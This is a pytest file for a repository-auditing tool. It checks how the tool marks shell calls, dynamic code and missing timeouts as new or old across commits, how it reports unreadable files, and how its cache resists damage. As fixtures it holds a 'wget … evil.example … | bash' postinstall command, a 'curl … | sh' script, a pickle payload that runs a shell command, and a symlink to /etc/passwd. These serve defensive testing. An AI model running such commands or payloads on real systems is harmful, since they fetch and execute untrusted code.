"""Evidence from real repositories: what is new, what is moved, what is cached, what cannot be read."""

from __future__ import annotations

import sqlite3
import subprocess
import sys
from collections.abc import Iterable, Iterator
from contextlib import closing
from pathlib import Path

import pytest

from auditor.domain import CodeLocation, Outcome, Scope, SecondLook, Subject
from auditor.forensics.engine import evidence_gathering
from auditor.repo.git_objects import BlobReader, SkippedBlob
from auditor.repo.repository_opening import open_repository
from auditor.report.report_json import to_json
from tests.auditing import asked, audited, covered, found, places
from tests.repos import Drawing

RUNS = "code.shell_execution"
EVALUATES = "code.dynamic_code"
SHELL = "import os\n\n\ndef run(command):\n    os.system(command)\n"


def test_a_test_that_checked_nothing_before_is_not_new_when_a_word_inside_it_is_edited(drawing: Drawing) -> None:
    bare = "def test_it():\n    # {}\n    run()\n"
    drawing.commit({"tests/test_a.py": bare.format("Runns it.")})
    drawing.branch("work")
    drawing.commit({"tests/test_a.py": bare.format("Runs it.")})
    (evidence,) = (
        each
        for each in asked(drawing.path, "main", "tests.without_assertions").evidence
        if each.id == "tests.without_assertions#2"
    )
    assert (evidence.outcome, evidence.introduced) == (Outcome.FOUND, False)


def test_a_test_that_checked_nothing_before_is_not_new_when_a_call_inside_it_is_edited(drawing: Drawing) -> None:
    bare = "def test_it():\n    run({})\n"
    drawing.commit({"tests/test_a.py": bare.format("1")})
    drawing.branch("work")
    drawing.commit({"tests/test_a.py": bare.format("2") + "\n\ndef test_more():\n    run(3)\n"})
    told = [
        (each.introduced, [place.start for place in each.locations if isinstance(place, CodeLocation)])
        for each in asked(drawing.path, "main", "tests.without_assertions").evidence
        if each.probe == "tests.without_assertions" and each.outcome is Outcome.FOUND
    ]
    assert sorted(told) == [(False, [1]), (True, [5])]


def test_only_what_the_change_writes_is_new(drawing: Drawing) -> None:
    drawing.commit({"old.py": SHELL, "both.py": SHELL})
    drawing.branch("work")
    drawing.commit(
        {
            "new.py": SHELL + "# another\n",
            "both.py": "# moved down\n" + SHELL + "\n\ndef more(command):\n    os.system(command + ' -v')\n",
        }
    )
    report = asked(drawing.path, "main", RUNS)
    by_news = {each.introduced: places([each]) for each in found(report, RUNS)}
    assert by_news == {True: [("both.py", 10), ("new.py", 5)], False: [("both.py", 6)]}


def test_renamed_and_moved_code_is_not_new(drawing: Drawing) -> None:
    drawing.commit({"a.py": SHELL + "x = 1\n" * 30, "b.py": "y = 1\n"})
    drawing.branch("work")
    drawing.git("mv", "a.py", "renamed.py")
    drawing.commit({"renamed.py": "x = 1\n" * 30, "b.py": SHELL + "y = 1\n"})
    assert {each.introduced for each in found(asked(drawing.path, "main", RUNS), RUNS)} == {False}


@pytest.mark.parametrize("noted", ["os.system(command)  # noqa: S605", "os.system(  # as ever\n        command\n    )"])
def test_a_comment_beside_old_code_does_not_make_it_new(drawing: Drawing, noted: str) -> None:
    old = noted.replace("  # noqa: S605", "").replace("  # as ever", "")
    drawing.commit({"a.py": SHELL.replace("os.system(command)", old)})
    drawing.branch("work")
    drawing.commit({"a.py": SHELL.replace("os.system(command)", noted)})
    assert {each.introduced for each in found(asked(drawing.path, "main", RUNS), RUNS)} == {False}


def test_what_only_looks_like_a_comment_makes_other_code(drawing: Drawing) -> None:
    drawing.commit({"a.py": SHELL.replace("command)", '"ls # a")')})
    drawing.branch("work")
    drawing.commit({"a.py": SHELL.replace("command)", 'f"ls # {command}")')})
    assert {each.introduced for each in found(asked(drawing.path, "main", RUNS), RUNS)} == {True}


def test_a_second_copy_of_old_code_is_new(drawing: Drawing) -> None:
    drawing.commit({"a.py": SHELL})
    drawing.branch("work")
    drawing.commit({"a.py": SHELL + "\n", "copy.py": SHELL})
    news = {each.introduced: places([each]) for each in found(asked(drawing.path, "main", RUNS), RUNS)}
    assert news == {True: [("copy.py", 5)], False: [("a.py", 5)]}


@pytest.mark.parametrize(
    ("before", "after", "new"),
    [
        ("b.globalEval(u),", "c.globalEval(v),", 0),
        ("b.globalEval(u),", "c.globalEval(v),c.globalEval(w),", 1),
        ("b.ex(u),", "c.globalEval(v),", 1),
    ],
)
def test_calls_on_a_minified_line_are_new_when_there_are_more_of_them(
    drawing: Drawing, before: str, after: str, new: int
) -> None:
    filling = "a(1)," * 1_200
    base = drawing.commit({"lib.min.js": f"{filling}{before}z();\n"})
    drawing.commit({"lib.min.js": f"{filling}y(2),{after}z();\n"})
    facts = found(asked(drawing.path, base, EVALUATES), EVALUATES)
    assert sum(each.introduced is True for each in facts) == new
    assert len(facts) >= 1


def test_calls_on_a_minified_line_of_a_renamed_file_are_not_new(drawing: Drawing) -> None:
    content = "a(1)," * 1_200 + "b.globalEval(u);\n"
    base = drawing.commit({"app.1a2b.min.js": content})
    drawing.commit({"app.1a2b.min.js": None, "app.3c4d.min.js": content})
    (fact,) = found(asked(drawing.path, base, EVALUATES), EVALUATES)
    assert fact.introduced is False


def test_a_call_on_a_minified_line_in_place_of_another_one_is_new(drawing: Drawing) -> None:
    filling = "a(1)," * 1_200
    base = drawing.commit({"lib.min.js": f"{filling}b.globalEval(u);\n"})
    drawing.commit({"lib.min.js": f"{filling}setTimeout('run(' + u + ')', 1);\n"})
    (fact,) = found(asked(drawing.path, base, EVALUATES), EVALUATES)
    assert fact.introduced


@pytest.mark.parametrize(
    ("more", "new"),
    [('"postinstall":"wget -qO- http://evil.example/z | bash"', 1), ('"postinstall":"wget -qO z http://evil.example/z"', 0)],
)  # fmt: skip
def test_a_command_more_on_a_minified_line_is_new(drawing: Drawing, more: str, new: int) -> None:
    begin = f'{{"d":"{"a" * 5_200}","scripts":{{"x":"curl -s http://a.example/y | sh"'
    base = drawing.commit({"package.json": begin + "}}\n"})
    drawing.commit({"package.json": f"{begin},{more}}}}}\n"})
    facts = found(asked(drawing.path, base, "code.dynamic_code"), "code.dynamic_code")
    assert sum(each.introduced is True for each in facts) == new
    assert facts


def test_of_a_long_line_the_part_is_quoted_that_begins_with_the_call(drawing: Drawing) -> None:
    base = drawing.commit({"lib.min.js": "z();\n"})
    drawing.commit({"lib.min.js": "a(1)," * 1_200 + "b.globalEval(u),c(2);\n"})
    (fact,) = found(asked(drawing.path, base, EVALUATES), EVALUATES)
    (place,) = fact.locations
    assert isinstance(place, CodeLocation)
    assert place.quote == "…b.globalEval(u),c(2);"


def test_calls_on_a_minified_line_of_another_file_are_new(drawing: Drawing) -> None:
    filling = "a(1)," * 1_200
    base = drawing.commit({"lib.min.js": f"{filling}b.globalEval(u);\n", "app.js": f"{filling};\n"})
    drawing.commit({"lib.min.js": f"{filling};\n", "app.js": f"{filling}b.globalEval(u);\n"})
    (fact,) = found(asked(drawing.path, base, EVALUATES), EVALUATES)
    assert fact.introduced


def test_taking_a_guard_away_from_an_old_call_is_new(drawing: Drawing) -> None:
    guarded = "import requests\n\nrequests.get(\n    url,\n    timeout=5,\n)\n"
    drawing.commit({"a.py": guarded})
    drawing.branch("work")
    drawing.commit({"a.py": guarded.replace("    timeout=5,\n", "")})
    assert [each.introduced for each in found(asked(drawing.path, "main", "code.no_timeout"), "code.no_timeout")] == [
        True
    ]


def test_files_that_the_change_leaves_alone_are_not_read(drawing: Drawing) -> None:
    drawing.commit({"old.py": SHELL, "a.py": "x = 1\n"})
    drawing.branch("work")
    drawing.commit({"a.py": "x = 2\n"})
    report = audited(drawing.path, "main")
    assert covered(report) == {"a.py": ("analysed", "")}
    assert found(report, RUNS) == []
    assert places(found(audited(drawing.path, "main", whole_tree=True), RUNS)) == [("old.py", 5)]


def test_product_and_test_code_are_answered_apart(drawing: Drawing) -> None:
    drawing.commit({"a.py": "x = 1\n", "tests/test_a.py": SHELL})
    report = asked(drawing.path, None, RUNS)
    assert found(report, RUNS) == []
    (in_tests,) = found(report, RUNS, in_tests=True)
    assert in_tests.data is not None
    assert in_tests.data.model_dump(mode="json")["sites"] == [
        {"path": "tests/test_a.py", "line": 5, "call": "os.system", "in_tests": True}
    ]
    outcomes = [each.outcome for each in report.evidence if each.probe == RUNS]
    assert outcomes == [Outcome.NOT_FOUND, Outcome.FOUND]


def test_a_second_look_by_other_rules_agrees_or_lowers_the_confidence(drawing: Drawing) -> None:
    drawing.commit({"a.py": SHELL, "b.py": "import os\n\n\ndef run(command):\n    getattr(os, 'system')(command)\n"})
    looks = {each.second_look: each.confidence for each in found(asked(drawing.path, None, RUNS), RUNS)}
    assert looks == {SecondLook.AGREES: 1.0, SecondLook.DISAGREES: 0.9}


def test_silencers_of_the_author_have_no_effect(drawing: Drawing) -> None:
    noisy = "import os\n\n\ndef run(command):\n    os.system(command)  # noqa  # nosec\n"
    drawing.commit(
        {
            "a.py": f"# ruff: noqa\n{noisy}",
            "ruff.toml": 'exclude = ["*"]\n',
            "pyproject.toml": '[tool.ruff]\nexclude = ["*"]\n',
            ".gitignore": "a.py\n",
        }
    )
    (site,) = found(asked(drawing.path, None, RUNS), RUNS)
    assert site.second_look is SecondLook.AGREES


def test_every_kind_of_unreadable_file_stays_on_the_list_with_its_reason(drawing: Drawing) -> None:
    drawing.write(
        {
            "ok.py": "x = 1\n",
            "broken.py": "def f(:\n",
            "large.py": "x = 1\n" * 200_000,
            "binary.py": b"\0\1\2",
            "latin.py": b"x = '\xe9'\n",
            "declared.py": b"# -*- coding: latin-1 -*-\nx = '\xe9'\n",
            "odd.py": b"# coding: punycode\nx = 1\n",
            "page.js": "let x = 1\n",
            "page.kt": "val x = 1\n",
            "image.png": b"\x89PNG",
        }
    )
    (drawing.path / "link.py").symlink_to("/etc/passwd")
    drawing.commit()
    status = covered(audited(drawing.path))
    assert status["ok.py"] == ("analysed", "")
    assert status["declared.py"] == ("analysed", "")
    assert status["broken.py"][0] == "unavailable"
    assert status["large.py"] == ("unavailable", "larger than 1,000,000 bytes")
    assert status["binary.py"] == ("unavailable", "it holds zero bytes, so it could not be read as Python")
    assert status["latin.py"] == ("unavailable", "not valid utf-8")
    assert "punycode" in status["odd.py"][1]
    assert status["page.js"] == ("analysed", "")
    assert status["page.kt"] == ("text", "read as text: no grammar for Kotlin")
    assert status["image.png"] == ("not_applicable", "binary by its name")
    assert status["link.py"] == ("unavailable", "a symbolic link that leads out of the tree, or nowhere")


def test_what_cannot_be_read_lowers_the_confidence_of_silence(drawing: Drawing) -> None:
    drawing.commit({"ok.py": "x = 1\n", "large.py": "x = 1\n" * 200_000})
    report = asked(drawing.path, None, RUNS)
    silence, dark = (each for each in report.evidence if each.probe == RUNS and not each.in_tests)
    assert (silence.outcome, silence.confidence) == (Outcome.NOT_FOUND, 0.5)
    assert dark.outcome is Outcome.UNAVAILABLE


def test_a_file_with_one_broken_statement_is_still_read_around_it(drawing: Drawing) -> None:
    drawing.commit({"a.py": f"{SHELL}\n\ndef broken(:\n    pass\n\n\nx = 1\n"})
    report = asked(drawing.path, None, RUNS)
    (site,) = found(report, RUNS)
    assert places([site]) == [("a.py", 5)]
    assert site.confidence <= 0.6
    assert covered(report)["a.py"][0] == "partial"


def test_excluded_files_are_not_read_and_stay_on_the_list(drawing: Drawing) -> None:
    drawing.commit({"a.py": "x = 1\n", "legacy/b.py": SHELL})
    report = audited(drawing.path, exclude=("legacy/**",))
    assert found(report, RUNS) == []
    assert covered(report)["legacy/b.py"] == ("excluded", "excluded by the configuration")


def plain(report: object) -> str:
    from auditor.domain import AuditReport, Cost, Timings

    assert isinstance(report, AuditReport)
    return to_json(report.model_copy(update={"timings": Timings(), "cost": Cost()}))


def test_two_runs_give_the_same_bytes_however_many_workers_and_whatever_the_cache(
    drawing: Drawing, tmp_path: Path
) -> None:
    drawing.commit({f"f{n}.py": SHELL * (n % 7 + 1) for n in range(60)} | {"README.md": "See `gone/x.py`.\n"})
    drawing.branch("work")
    drawing.commit({f"f{n}.py": SHELL * 3 for n in range(0, 60, 3)})
    first = plain(audited(drawing.path, "main"))
    cold = audited(drawing.path, "main", cache=tmp_path, jobs=2)
    warm = audited(drawing.path, "main", cache=tmp_path, jobs=2)
    assert first == plain(cold) == plain(warm)
    assert (cold.timings.cached_files, warm.timings.cached_files > 0) == (0, True)


def test_a_record_made_for_some_probes_does_not_answer_for_others(drawing: Drawing, tmp_path: Path) -> None:
    drawing.commit({"a.py": SHELL})
    for probe in ("code.weak_hash", RUNS):
        with open_repository(drawing.path) as repo:
            subject = Subject(repository=repo.name, head=repo.head, scope=Scope.WHOLE_TREE)
            gathered = evidence_gathering.gather(
                repo, subject, [probe], evidence_gathering.Options(jobs=1, cache=tmp_path)
            )
    assert [each.outcome for each in gathered.evidence if not each.in_tests] == [Outcome.FOUND]


@pytest.mark.parametrize("poison", [b"not a database", b""])
def test_a_broken_cache_is_ignored(drawing: Drawing, tmp_path: Path, poison: bytes) -> None:
    drawing.commit({"a.py": SHELL})
    (tmp_path / "records.sqlite").write_bytes(poison)
    assert len(found(asked(drawing.path, None, RUNS, cache=tmp_path), RUNS)) == 1


def test_poisoned_records_are_read_afresh(drawing: Drawing, tmp_path: Path) -> None:
    drawing.commit({"a.py": SHELL})
    asked(drawing.path, None, RUNS, cache=tmp_path)
    for value in (b"null\n[1,2,3]", b"cos\nsystem\n(S'touch canary'\ntR.", b"null\n" + b"[" * 10_000):
        with closing(sqlite3.connect(tmp_path / "records.sqlite")) as connection, connection:
            connection.execute("UPDATE records SET value = ?", (value,))
        assert len(found(asked(drawing.path, None, RUNS, cache=tmp_path), RUNS)) == 1


def test_a_cache_that_another_audit_is_writing_is_left_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from auditor.forensics.record_cache import disk_cache as caches

    monkeypatch.setattr(caches, "_LOCK_TIMEOUT", 0.01)
    cache = caches.RecordCache(tmp_path)
    cache.put({"key": b"value"})
    with closing(sqlite3.connect(tmp_path / "records.sqlite", isolation_level=None)) as other:
        other.execute("BEGIN EXCLUSIVE")
        cache.put({"second": b"value"})
        other.execute("ROLLBACK")
    assert cache.get(["key", "second"]) == {"key": b"value"}


def test_few_git_processes_are_needed_whatever_the_size(drawing: Drawing) -> None:
    drawing.commit({f"f{n}.py": f"x = {n}\n" for n in range(300)})
    drawing.branch("work")
    for number in range(10):
        drawing.commit({f"f{n}.py": f"x = {number}\n" for n in range(number * 10)})
    assert audited(drawing.path, "main", jobs=2).timings.git_processes <= 15


def test_the_evidence_path_loads_no_model_and_no_api_library(drawing: Drawing) -> None:
    drawing.commit({"a.py": SHELL})
    script = (
        "import sys\nfrom pathlib import Path\nfrom tests.auditing import asked, audited\n"
        f"audited(Path({str(drawing.path)!r}))\n"
        "print(sorted({'anthropic', 'github', 'pypdf', 'requests', 'httpx'} & set(sys.modules)))"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"


def test_an_audit_of_a_whole_tree_asks_git_for_each_content_once(
    drawing: Drawing, monkeypatch: pytest.MonkeyPatch
) -> None:
    wanted: list[str] = []
    real = BlobReader.read

    def listening(reader: BlobReader, ids: Iterable[str], *, limit: int) -> Iterator[tuple[str, bytes | SkippedBlob]]:
        these = list(ids)
        wanted.extend(these)
        return real(reader, these, limit=limit)

    monkeypatch.setattr(BlobReader, "read", listening)
    drawing.commit({"a.py": SHELL, "tests/test_a.py": "def test_a():\n    assert True\n"})
    with open_repository(drawing.path) as repo:
        subject = Subject(repository="x", head=repo.head, scope=Scope.WHOLE_TREE)
        evidence_gathering.gather(repo, subject, [RUNS, "tests.changed_with_code"], evidence_gathering.Options(jobs=1))
    assert len(wanted) == 2
    assert len(set(wanted)) == 2
